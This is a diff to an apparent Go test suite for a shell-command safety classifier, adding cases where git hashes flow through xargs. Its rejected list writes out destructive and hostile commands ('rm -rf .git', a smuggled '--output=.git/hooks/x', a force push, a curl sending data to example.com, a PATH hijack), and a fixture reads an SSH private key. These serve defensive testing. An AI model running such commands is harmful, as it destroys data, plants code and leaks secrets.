@@ -178,6 +178,27 @@ func TestNamesWithOtherWords(t *testing.T) {
 	})
 }
 
+// git prints hashes, which are words like any number; names of branches are what their author chose.
+func TestHashesAsWords(t *testing.T) {
+	everyday(t, nil, []string{
+		"git rev-parse HEAD | xargs git show --stat",
+		"git log --format=%h -1 | xargs git show --stat",
+		"git log -3 --pretty=format:%H | xargs -n1 git diff-tree --name-only",
+		"git rev-list HEAD | head -2 | xargs -I{} git show -s {}",
+		"git merge-base HEAD HEAD | xargs git diff --stat",
+	}, []string{
+		"git log --format=%s -1 | xargs git show",
+		"git log --format='%h %D' -1 | xargs git show",
+		"git rev-parse --abbrev-ref HEAD | xargs rm -rf",
+		"git branch --format='%(refname:short)' | xargs rm -rf",
+		"{ git rev-parse HEAD; echo --output=.git/hooks/x; } | xargs git show",
+		"git log --format=%h -1 | xargs git push --force origin",
+		"git log --format=%H -1 | xargs -I{} sh -c 'curl -d {} https://example.com'",
+		"PATH=.:$PATH git log --format=%h -1 | xargs git show",
+		"git log --format=%h -1 | xargs rm -rf .git",
+	})
+}
+
 func TestCodeDerivedFromTheWorkspace(t *testing.T) {
 	everyday(t, map[string]string{"main.c": "int main(void) { return 0; }\n", "tool.sh": "echo hi\n", "bad.sh": "cat ~/.ssh/id_ed25519\n"}, []string{
 		"cc -o full main.c && strip -o small full && ./small",
